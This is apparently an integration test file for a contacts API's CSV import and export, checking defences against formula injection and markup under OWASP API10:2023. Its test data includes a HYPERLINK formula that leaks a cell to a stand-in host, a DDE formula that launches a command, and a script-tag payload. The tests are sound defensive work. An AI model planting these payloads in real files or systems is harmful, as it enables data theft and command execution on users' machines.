// OWASP API10:2023 Unsafe Consumption of APIs: what partner systems send (bulk imports, partner API calls) is data,
// never instructions. A CSV import with formulas, markup and oversized cells is validated row by row, and an export
// of what was imported cannot run as a formula in a spreadsheet.
import { setTimeout as sleep } from 'node:timers/promises';
import { GatewayStack } from '../support/gateway-stack';
import { tokenOf, unique } from './support/owasp-stack';

const stack = new GatewayStack();
beforeAll(() => stack.start(), 120_000);
afterAll(() => stack.stop());

it('a partner-supplied formula is exported as text a spreadsheet does not run', async () => {
  const partner = await tokenOf('acme-partner');
  const lastName = `Csv${unique()}`;
  const created = await stack.api.post(
    '/api/v1/contacts',
    partner,
    { firstName: '=HYPERLINK("http://x.example/?leak="&A1,"Click")', lastName },
    { 'idempotency-key': unique() },
  );
  expect(created.status).toBe(201);
  const admin = await tokenOf('acme-admin');
  const exported = await stack.api.get('/api/v1/exports?entity=contact&format=csv', admin);
  expect(exported.status).toBe(200);
  const line = exported.text.split('\n').find((l) => l.includes(lastName));
  expect(line).toBeDefined();
  expect(line).toContain(`'=HYPERLINK`);
  expect(line).not.toMatch(/(^|,)"?=HYPERLINK/);
});

it('an imported file with formulas, markup and an oversized cell is validated row by row, nothing else', async () => {
  const manager = await tokenOf('acme-manager');
  const email = `imp-${unique()}@example.test`;
  const csv = [
    'email,first_name,last_name',
    `${email},"=cmd|' /C calc'!A0",<script>alert(1)</script>`,
    `not-an-email,Bad,Row`,
    `big-${unique()}@example.test,${'x'.repeat(10_000)},Big`,
  ].join('\n');
  const started = await stack.api.request('POST', '/api/v1/imports?entity=contact&matchBy=email', {
    token: manager,
    raw: csv,
    headers: { 'content-type': 'text/csv', 'idempotency-key': unique() },
  });
  expect(started.status).toBe(202);
  const id = (started.body as { id: string }).id;
  let job: { status: string; errorCount: number; createdCount: number } | undefined;
  for (let i = 0; i < 120 && !['completed', 'failed'].includes(job?.status ?? ''); i++) {
    await sleep(500);
    job = (await stack.api.get(`/api/v1/imports/${id}`, manager)).body as typeof job;
  }
  expect(job).toMatchObject({ status: 'completed', createdCount: 1, errorCount: 2 });
  const list = await stack.api.get(`/api/v1/contacts?q=${encodeURIComponent(email)}`, manager);
  const imported = (list.body as { data: Array<{ firstName: string; lastName: string }> }).data[0];
  // Stored exactly as given: the markup and the formula are text, neither executed nor silently rewritten.
  expect(imported?.lastName).toBe('<script>alert(1)</script>');
  expect(imported?.firstName).toBe("=cmd|' /C calc'!A0");
});
